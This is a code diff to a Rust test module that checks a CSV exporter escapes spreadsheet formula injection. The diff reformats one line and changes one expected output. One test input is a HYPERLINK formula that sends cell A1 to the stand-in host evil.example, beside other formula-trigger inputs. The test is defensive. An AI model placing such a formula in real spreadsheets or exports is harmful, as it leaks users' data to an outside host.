@@ -243,7 +243,8 @@ mod tests {
             Cell::Dec(-1234.5, 2),
             "@SUM(A1)".into(),
         ]);
-        t.rows.push(vec!["+39 055".into(), Cell::Int(-3), "\tx".into()]);
+        t.rows
+            .push(vec!["+39 055".into(), Cell::Int(-3), "\tx".into()]);
         t.rows.push(vec!["-".into(), Cell::Empty, "Forlì".into()]);
         let s = String::from_utf8(t.to_csv()).unwrap();
         let righe: Vec<&str> = s.trim_start_matches('\u{feff}').split("\r\n").collect();
@@ -251,7 +252,7 @@ mod tests {
             righe[1],
             r#""'=HYPERLINK(""http://evil.example/?""&A1,""Apri"")";-1234,50;'@SUM(A1)"#
         );
-        assert_eq!(righe[2], "'+39 055;-3;\"'\tx\"");
+        assert_eq!(righe[2], "'+39 055;-3;'\tx");
         assert_eq!(righe[3], "'-;;Forlì");
         assert_eq!(togli_neutralizzazione("'=A1"), "=A1");
         assert_eq!(togli_neutralizzazione("'ciao"), "'ciao");
